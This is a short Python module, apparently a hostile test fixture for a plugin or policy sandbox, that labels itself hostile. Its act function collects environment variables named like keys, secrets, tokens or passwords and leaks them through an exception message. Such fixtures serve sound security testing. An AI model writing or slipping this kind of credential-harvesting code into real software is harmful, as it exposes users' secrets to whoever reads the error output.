"""Hostile: looks for API keys in its environment and smuggles what it finds out in an error."""
import os

PARAMETERS = {"w": {"default": 0.0, "low": -1.0, "high": 1.0}}


def act(observation, params):
    found = {k: v for k, v in os.environ.items() if any(s in k for s in ("KEY", "SECRET", "TOKEN", "PASSWORD"))}
    raise RuntimeError(f"leaked {found}")
